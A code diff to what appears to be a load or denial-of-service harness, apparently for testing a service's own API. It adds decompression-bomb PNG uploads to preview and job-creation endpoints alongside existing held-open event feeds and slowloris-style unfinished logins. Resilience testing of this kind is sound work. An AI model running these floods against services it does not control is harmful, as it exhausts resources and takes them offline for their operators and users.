@@ -1,5 +1,6 @@
 import { connect, type Socket } from 'node:net';
 import { setTimeout as wait } from 'node:timers/promises';
+import { largePng } from './_large-png.js';
 
 /** What the process that attacks is given. */
 export interface AttackOrder {
@@ -20,7 +21,7 @@ const order = JSON.parse(process.env['ATTACK_ORDER'] ?? 'null') as AttackOrder |
 const open = new Set<Socket>();
 let count = 0;
 
-function socket(first: (n: number) => string): Socket {
+function socket(first: (n: number) => string | Buffer): Socket {
   const { target, port, addresses } = order!;
   const n = count++;
   const localAddress = addresses[n % addresses.length];
@@ -69,7 +70,24 @@ async function drip(most: number, make: () => Socket): Promise<never> {
   });
 }
 
+/** Each call sends a picture of a few hundred kilobytes that unfolds to hundreds of megabytes. */
+async function sendLargePictures(path: string, width: number, height: number, bits: 8 | 16): Promise<never> {
+  const field = (name: string, rest: string) =>
+    `--b\r\nContent-Disposition: form-data; name="${name}"${rest}\r\n\r\n`;
+  const body = Buffer.concat([
+    Buffer.from(`${field('mode', '')}studio_white\r\n${field('file', '; filename="a.png"')}`),
+    await largePng(width, height, bits),
+    Buffer.from('\r\n--b--\r\n'),
+  ]);
+  const headOf = ofSeller(`POST ${path}`, form[0]!, `Content-Length: ${body.length}`, 'Connection: close');
+  return keep(16, () => socket((n) => Buffer.concat([Buffer.from(headOf(n)), body])).resume());
+}
+
 const attacks = {
+  '16 previews of 1,000,000 × 64 pixels': () => sendLargePictures('/api/preview/generate', 1_000_000, 64, 8),
+  '16 previews of 65,535 × 976 pixels, 16 bits': () =>
+    sendLargePictures('/api/preview/generate', 65_535, 976, 16),
+  '16 creations of 8,000 × 7,999 pixels': () => sendLargePictures('/api/jobs/create', 8_000, 7_999, 8),
   '128 feeds': () => keep(128, () => socket(ofSeller('GET /api/jobs/events')).resume()),
   '128 unfinished logins': () =>
     keep(128, () => unfinished(ofStranger('POST /api/auth/login', ...json), '{"email":')),
